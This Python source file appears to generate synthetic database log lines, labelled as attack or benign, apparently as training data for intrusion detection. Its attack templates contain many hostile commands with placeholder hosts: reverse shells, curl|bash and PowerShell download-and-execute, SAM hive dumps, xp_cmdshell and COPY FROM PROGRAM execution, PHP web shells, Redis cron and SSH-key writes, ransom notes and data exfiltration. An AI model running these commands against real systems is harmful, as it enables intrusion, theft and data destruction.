"""Databases: commands run through them, dumped and dropped tables, and their everyday errors and dumps."""

from __future__ import annotations

from generator.families.network.telling import Values, tell
from generator.scene import Scene, attack, benign, family
from generator.world import World

_commands = ("whoami", "powershell -nop -w hidden -c \"iwr http://{pub}/{word}.ps1 -useb|iex\"", "certutil -urlcache -split -f http://{pub}/{word}.exe c:\\\\users\\\\public\\\\{word}.exe", "curl -s http://{pub}/{word}.sh|bash", "net user {word} P@ss{n} /add", "wget -qO- {pub}/{word}|sh", "id; uname -a", "echo {hex}|base64 -d|bash", "bitsadmin /transfer x http://{pub}/a.exe %temp%\\\\a.exe", "cmd /c start c:\\\\programdata\\\\{word}.bat", "bash -i >& /dev/tcp/{pub}/{port} 0>&1", "/tmp/.{word} -o {pub}:3333", "python3 -c 'import socket'", "ipconfig /all", "reg save hklm\\\\sam c:\\\\temp\\\\s")


@family("network/database-runs-commands", attack=True, weight=1.5)
def runs_commands(world: World) -> Scene:
    """The operating system's commands through a database."""
    values = Values(world)
    values["run"] = world.pick(_commands).format_map(values)
    return tell(world, attack("SQL Injection — OS Command via SQLi", *world.pick([("T1059.004",), ("T1190", "T1059.004"), ("T1059.003", "T1190"), ("T1505.001",)]), severity="CRITICAL"), [
        ("={plain} spid{n}      Configuration option 'show advanced options' changed from 0 to 1. Run the RECONFIGURE statement to install.", "={plain} spid{n}      Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install."),
        "={plain} spid{n}      Configuration option 'Ole Automation Procedures' changed from 0 to 1. Run the RECONFIGURE statement to install. (login sa, host {pub})",
        "MSSQLSERVER|Audit: EXEC master..xp_cmdshell '{run}' server_principal_name:sa client_ip:{pub}",
        "MSSQLSERVER|audit_event action_id:EX statement:DECLARE @s INT EXEC sp_oacreate 'wscript.shell',@s OUT EXEC sp_oamethod @s,'run',NULL,'{run}' principal:sa",
        "MSSQLSERVER|Job '{word}' step 1 CmdExec: {run}, owner sa, created from {pub}",
        "postgres|[{n}-1] LOG:  statement: COPY {word} FROM PROGRAM '{run}'", "={plain} UTC [{id}] postgres@postgres {pub}({port}) LOG:  statement: COPY cmd_exec FROM PROGRAM '{run}';",
        ("={plain} UTC [{id}] postgres@template1 {pub}({port}) LOG:  statement: DROP TABLE IF EXISTS {word};CREATE TABLE {word}(cmd_output text);", "={plain} UTC [{id}] postgres@template1 {pub}({port}) LOG:  statement: COPY {word} FROM PROGRAM '{run}';"),
        "postgres|[{n}-1] LOG:  execute <unnamed>: CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE 'c' STRICT; SELECT system('{run}')",
        "={iso}\t{n} Query\tCREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_{word}.so'", "={iso}\t{n} Query\tselect sys_eval('{run}')",
        "={iso}\t{n} Query\tselect 0x7f454c4602010100 into dumpfile '/usr/lib/mysql/plugin/{word}.so'", "={iso}\t{n} Query\tSELECT '<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/html/{word}.php'",
        "mysqld|general: {n} Query SET GLOBAL general_log_file='/var/www/html/{word}.php'; SELECT '<?php eval($_POST[1]);?>' from {pub}",
        "oracle|AUDIT: ACTION:'DECLARE BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>''{word}'',job_type=>''EXECUTABLE'',job_action=>''/bin/sh'',...) END;' DATABASE USER:'SYSTEM' CLIENT HOST:{pub}",
        "oracle|AUDIT: ACTION:'create or replace and compile java source named \"{word}\" as ... Runtime.getRuntime().exec' DATABASE USER:'SCOTT' HOST:{pub}",
        "={plain} {pub} sqlite: SELECT load_extension('/tmp/{word}.so','main') executed by webapp",
    ], values=values)


@family("network/redis-taken", attack=True, weight=1.3)
def redis_taken(world: World) -> Scene:
    """Redis or the like made to write files, load modules or follow a foreign master."""
    return tell(world, lambda story: attack("Remote Code Execution Exploit", "T1190", *(["T1098.004"] if ".ssh" in story else ["T1053.003"] if "cron" in story or "* * *" in story else ["T1210"]), severity="CRITICAL"), [
        ("=1690.12 [0 {pub}:{port}] \"config\" \"set\" \"dir\" \"/root/.ssh/\"", "=1690.33 [0 {pub}:{port}] \"config\" \"set\" \"dbfilename\" \"authorized_keys\"", "=1690.51 [0 {pub}:{port}] \"save\""),
        ("=1712.402 [0 {pub}:{port}] \"CONFIG\" \"SET\" \"dir\" \"/var/spool/cron/\"", "=1712.418 [0 {pub}:{port}] \"SET\" \"{word}\" \"\\n\\n*/2 * * * * curl -fsSL http://{pub2}/{word2}.sh | sh\\n\\n\""),
        "=1690.12 [0 {pub}:{port}] \"SLAVEOF\" \"{pub2}\" \"21000\"", ("redis-server|{id}:S {plain} * Before turning into a replica, using my own master parameters: REPLICAOF {pub}:{port} enabled (user request from 'id={n} addr={pub2}:{port}')", "redis-server|{id}:S {plain} * Module 'system' loaded from ./{word}.so"),
        "redis-server|{id}:M {plain} # CONFIG SET dir /etc/cron.d/ requested by {pub}:{port}; DB saved on disk", "=1690.12 [0 {pub}:{port}] \"MODULE\" \"LOAD\" \"/tmp/{word}.so\"", "=1690.12 [0 {pub}:{port}] \"EVAL\" \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0','luaopen_io')\" \"0\"",
        "redis-server|{id}:M {plain} * DB saved on disk: /var/www/html/{word}.php (dbfilename changed by {pub})", "redis|client {pub}:{port} cmd=config|set argv=dbfilename root user=default -> OK, cmd=save -> OK",
        "=[{iso}][WARN ][o.e.s.g.GroovyScript] [{host}] script executed from {pub}: java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"wget http://{pub2}/{word}\")",
        "memcached|<{n} set {word} 0 0 1048400 from {pub}, payload repeated; stats cachedump requested {big} times", "couchdb|[warning] {iso} {pub} PUT /_config/query_servers/cmd 200 value \"/bin/sh -c {word}\"",
        "=1690.12 [0 {pub}:{port}] \"flushall\"\n1690.14 [0 {pub}:{port}] \"set\" \"backup1\" \"\\t\\n*/3 * * * * wget -q -O- http://{pub2}/ap.txt | bash > /dev/null 2>&1\\n\"",
    ])


@family("network/database-held-to-ransom", attack=True)
def ransom(world: World) -> Scene:
    return tell(world, attack(world.pick(["SQL Injection — Destructive SQLi", "Ransomware Activity", "Ransomware Activity"]), "T1485", "T1486", severity="CRITICAL"), [
        ("={{\"t\":{{\"$date\":\"{iso}\"}},\"s\":\"I\",\"c\":\"COMMAND\",\"ctx\":\"conn{n}\",\"msg\":\"dropDatabase\",\"attr\":{{\"db\":\"{company}\",\"client\":\"{pub}:{port}\"}}}}", "={{\"t\":{{\"$date\":\"{iso}\"}},\"s\":\"I\",\"c\":\"COMMAND\",\"ctx\":\"conn{n}\",\"msg\":\"createCollection\",\"attr\":{{\"namespace\":\"READ__ME_TO_RECOVER_YOUR_DATA.README\",\"client\":\"{pub}:{port}\"}}}}"),
        "mongod|[conn{n}] command READ_ME_TO_RECOVER_YOUR_DATA.README command: insert {{ documents: [ {{ content: \"All your data is backed up. You must pay 0.0{n} BTC\" }} ] }} client: {pub}:{port}",
        "={iso}\t{n} Query\tDROP DATABASE `{company}`\n{iso}\t{n} Query\tCREATE TABLE `WARNING`.`WARNING` (id int, warning longtext, Bitcoin_Address text)", "={iso}\t{n} Query\tINSERT INTO `README_TO_RECOVER`.`RECOVER_YOUR_DATA` VALUES ('To recover your lost database send 0.00{n} BTC')",
        "={plain} UTC [{id}] postgres@postgres {pub}({port}) LOG:  statement: CREATE TABLE readme_to_recover (text_field VARCHAR(255)); DROP DATABASE {company};",
        "=[{iso}][INFO ][o.e.c.m.MetadataDeleteIndexService] [{host}] [customers/{hex}] deleting index, then [read_me/{hex}] creating index from {pub}", "mysqld|audit: root@{pub} DROP TABLE orders, customers, invoices; CREATE TABLE PLEASE_READ_ME_XYZ",
        "MSSQLSERVER|ALTER DATABASE [{company}] SET OFFLINE WITH ROLLBACK IMMEDIATE; {n} .mdf files renamed to .{word} by client {pub}", "={plain} audit {pub} meow: index {word}-meow created, {n} indices deleted", "mariadbd|audit,{pub},root,QUERY,{company},'for every table: DELETE FROM; INSERT note \"your data is stolen, contact {word}@onionmail.org\"'",
    ])


@family("network/database-copied-out", attack=True)
def copied_out(world: World) -> Scene:
    return tell(world, attack("Potential Data Exfiltration", *world.pick([("T1048", "T1213.006"), ("T1041",), ("T1048",)]), severity="CRITICAL"), [
        "={iso}\t{n} Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM `customers` /* root@{pub}, first connection from this address, {big} rows */",
        "={iso}\t{n} Query\tSELECT card_number,cvv,name FROM payments INTO OUTFILE '/var/www/html/uploads/{word}.csv'", "={plain} UTC [{id}] postgres@crm {pub}({port}) LOG:  statement: COPY (SELECT email,password_hash FROM users) TO PROGRAM 'curl -T - http://{pub}/{word}'",
        "mongod|[conn{n}] command: getMore cursor for {company}.users nreturned:{big} client: {pub}:{port} mongodump --out dump (no authentication)", "MSSQLSERVER|BACKUP DATABASE [{company}] TO URL = 'https://{word}.blob.core.windows.net/x/{word}.bak' by sa from {pub}",
        "MSSQLSERVER|bcp \"SELECT * FROM HR.dbo.Employees\" queryout \\\\{pub}\\share\\{word}.dat -c -T", "=[{iso}][INFO ][o.e.s.scroll] [{host}] unauthenticated scroll of index [patients] from {pub}: {huge} documents read with elasticdump",
        "oracle|AUDIT: expdp full=y directory=DATA_PUMP_DIR dumpfile={word}.dmp DATABASE USER:'SYSTEM' CLIENT HOST:{pub} (unknown terminal)", "dbaudit|user {user} exported {huge} rows of table salaries at 03:12 to USB drive, 400 times usual volume", "redis|1690.12 [0 {pub}:{port}] \"KEYS\" \"*\" \"session:*\" followed by DUMP x {big}",
    ])


@family("network/database-hostile-login-and-account", attack=True)
def account(world: World) -> Scene:
    return tell(world, attack("Persistence", "T1136", "T1098", severity="HIGH"), [
        "={iso}\t{n} Query\tGRANT ALL PRIVILEGES ON *.* TO '{word}'@'%' IDENTIFIED BY '{hex}' WITH GRANT OPTION /* from {pub} */", "={iso}\t{n} Query\tINSERT INTO mysql.user (Host,User,authentication_string) VALUES ('%','{word}','{hex}')",
        "={plain} UTC [{id}] postgres@postgres {pub}({port}) LOG:  statement: CREATE ROLE {word} SUPERUSER LOGIN PASSWORD '{hex}'", "MSSQLSERVER|CREATE LOGIN [{word}$] WITH PASSWORD=***; EXEC sp_addsrvrolemember '{word}$','sysadmin' client {pub} application 'Microsoft OLE DB'",
        "mongod|[conn{n}] createUser {{ user: \"{word}\", roles: [ \"root\" ] }} client {pub}:{port} no authenticated principal", "oracle|AUDIT: GRANT DBA TO {word} DATABASE USER:'DBSNMP' CLIENT HOST:{pub}", "MSSQLSERVER|CREATE TRIGGER {word} ON ALL SERVER FOR LOGON EXEC xp_cmdshell ... created by sa from {pub}", "={plain} spid{n} CREATE ASSEMBLY [{word}] FROM 0x4D5A90000300 WITH PERMISSION_SET = UNSAFE (client {pub})",
    ])


@family("network/database-everyday", attack=False, weight=1.6)
def everyday(world: World) -> Scene:
    return tell(world, lambda story: benign("Application Event" if any(word in story for word in ("checkpoint", "end connection", "Finished", "Slow", "duration", "started by")) else "Application Error"), [
        "={iso} {n} [Note] Aborted connection {n} to db: '{company}' user: 'web' host: '{priv}' (Got timeout reading communication packets)", "={iso} {n} [Warning] IP address '{priv}' could not be resolved: Name or service not known", "={iso} {n} [ERROR] /usr/sbin/mysqld: Table './{company}/sessions' is marked as crashed and should be repaired",
        "={iso} {n} [Warning] Access denied for user 'web'@'{priv}' (using password: YES)", "={iso} {n} [ERROR] Replica SQL for channel '': Error 'Duplicate entry' on query. Default database: '{company}'. Error_code: MY-001062", "=# Query_time: {n}.1  Lock_time: 0.000 Rows_sent: 1  Rows_examined: {big}\nSELECT * FROM orders WHERE status='open' ORDER BY created;",
        "mysqld|InnoDB: Transaction {id}, waiting for lock; *** WE ROLL BACK TRANSACTION (1), deadlock detected", "={plain} UTC [{id}] app@crm {priv}({port}) ERROR:  deadlock detected", "={plain} UTC [{id}] app@crm {priv}({port}) FATAL:  remaining connection slots are reserved for non-replication superuser connections",
        "={plain} UTC [{id}] app@crm ERROR:  duplicate key value violates unique constraint \"users_email_key\"", "={plain} UTC [{id}] LOG:  checkpoint complete: wrote {big} buffers (4.1%)", "={plain} UTC [{id}] app@crm LOG:  duration: {big}.310 ms  statement: SELECT count(*) FROM events WHERE attack_type = 'sql injection'",
        "={plain} UTC [{id}] FATAL:  the database system is starting up", "postgres|[{n}-1] ERROR:  syntax error at or near \"from\" at character {n}", "postgres|[{n}-1] LOG:  could not receive data from client: Connection reset by peer", "={plain} UTC [{id}] ERROR:  permission denied for table payroll STATEMENT:  select * from payroll",
        "={plain} spid{n}      Transaction (Process ID {n}) was deadlocked on lock resources with another process and has been chosen as the deadlock victim.", "={plain} spid{n}      Error: 9002, Severity: 17, State: 2. The transaction log for database '{company}' is full due to 'LOG_BACKUP'.", "={plain} spid{n}      SQL Server has encountered {n} occurrence(s) of I/O requests taking longer than 15 seconds to complete on file [D:\\data\\{company}.mdf]",
        "oracle|ORA-00060: deadlock detected while waiting for resource", "oracle|ORA-01555: snapshot too old: rollback segment number {n}", "oracle|TNS-12535: TNS:operation timed out, client address: (HOST={priv})(PORT={port})", "={{\"t\":{{\"$date\":\"{iso}\"}},\"s\":\"I\",\"c\":\"COMMAND\",\"ctx\":\"conn{n}\",\"msg\":\"Slow query\",\"attr\":{{\"ns\":\"{company}.orders\",\"planSummary\":\"COLLSCAN\",\"durationMillis\":{big}}}}}",
        "mongod|[conn{n}] end connection {priv}:{port} ({n2} connections now open)", "mongod|[replexec-{n}] Starting an election, since we've seen no PRIMARY in the past 10000ms", "redis-server|{id}:M {plain} * Background saving started by pid {id}", "redis-server|{id}:M {plain} # WARNING overcommit_memory is set to 0! Background save may fail under low memory condition.",
        "redis-server|{id}:S {plain} * MASTER <-> REPLICA sync: Finished with success", "=[{iso}][WARN ][o.e.c.r.a.DiskThresholdMonitor] [{host}] high disk watermark [90%] exceeded on [{hex}][{host}], shards will be relocated", "=[{iso}][WARN ][o.e.m.j.JvmGcMonitorService] [{host}] [gc][{n}] overhead, spent [{n}s] collecting in the last [{n2}s]",
    ], again=(1, 3))


@family("network/database-maintenance", attack=False, weight=1.5)
def maintenance(world: World) -> Scene:
    """Dumps, grants and options changed by those who should."""
    return tell(world, lambda story: benign("Backup Job" if any(word in story.lower() for word in ("dump", "backup", "snapshot", "db saved")) else "Administration"), [
        "={iso}\t{n} Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM `customers` /* backup@localhost mysqldump */", "mysqldump|dump of {company} to /var/backups/mysql/{company}.sql.gz finished, {huge} bytes", "={plain} UTC [{id}] backup@crm [local] LOG:  statement: COPY public.users (id, email, password_hash) TO stdout;",
        "pg_dump|dumping contents of table \"public.customers\"", "={plain} Backup      BACKUP DATABASE successfully processed {big} pages in {n}.112 seconds. Database: {company}, file D:\\Backup\\{company}.bak", "={plain} Backup      Log was backed up. Database: {company}, creation date(time): 2021/02/03, first LSN: {id}", "={iso}\t{n} Query\tGRANT SELECT, INSERT, UPDATE ON `{company}`.* TO 'shop'@'{priv}' /* root@localhost */",
        "={plain} UTC [{id}] postgres@postgres [local] LOG:  statement: CREATE ROLE {user} LOGIN PASSWORD '***'; -- onboarding ticket {id}", "={plain} UTC [{id}] postgres@crm [local] LOG:  statement: COPY import_prices FROM '/srv/import/prices.csv' CSV HEADER", "={plain} spid{n}      Configuration option 'max server memory (MB)' changed from 2147483647 to {big}. Run the RECONFIGURE statement to install.",
        "={plain} spid{n}      Setting database option RECOVERY to FULL for database '{company}'.", "={iso}\t{n} Query\tDROP TABLE IF EXISTS `tmp_import_{n}`", "={iso}\t{n} Query\tSELECT id,total FROM orders INTO OUTFILE '/var/lib/mysql-files/report_{n}.csv'", "={plain} UTC [{id}] LOG:  automatic vacuum of table \"crm.public.sessions\": index scans: 1",
        "mongodump|done dumping {company}.users ({big} documents) to /backup/mongo", "=1690.12 [0 {priv}:{port}] \"CONFIG\" \"SET\" \"maxmemory\" \"2gb\"", "redis-server|{id}:M {plain} * DB saved on disk", "redis-server|{id}:S {plain} * Before turning into a replica, using my own master parameters to synthesize a cached master: REPLICAOF {priv}:6379 enabled (user request from 'id={n} addr={priv2}:{port} name=sentinel')",
        "oracle|AUDIT: expdp schemas={company} dumpfile=nightly.dmp DATABASE USER:'BACKUP' CLIENT HOST:{host}", "=[{iso}][INFO ][o.e.s.SnapshotsService] [{host}] snapshot [nightly:{plain}/{hex}] completed with state [SUCCESS]", "=[{iso}][INFO ][o.e.c.m.MetadataDeleteIndexService] [{host}] [logs-2021.02.{n}/{hex}] deleting index", "flyway|Migrating schema \"public\" to version \"{n} - drop old columns\"",
    ], again=(1, 2))
